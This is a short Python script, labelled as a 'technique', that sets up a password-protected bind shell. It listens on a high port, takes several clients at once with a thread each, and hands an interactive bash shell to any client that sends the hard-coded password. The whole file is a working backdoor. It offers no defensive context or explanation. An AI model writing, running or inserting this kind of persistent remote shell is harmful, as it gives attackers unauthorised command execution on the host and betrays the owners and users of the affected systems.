# technique: password-protected multi-client bind shell on an unusual high port with a thread per client
import socket
import subprocess
import threading

PORT = 53211
SECRET = b"s3cr3t"


def handle(c):
    c.send(b"pw: ")
    if c.recv(64).strip() != SECRET:
        c.close()
        return
    subprocess.Popen(["/bin/bash", "-i"], stdin=c, stdout=c, stderr=c).wait()
    c.close()


s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", PORT))
s.listen(5)
while True:
    client, addr = s.accept()
    threading.Thread(target=handle, args=(client,), daemon=True).start()
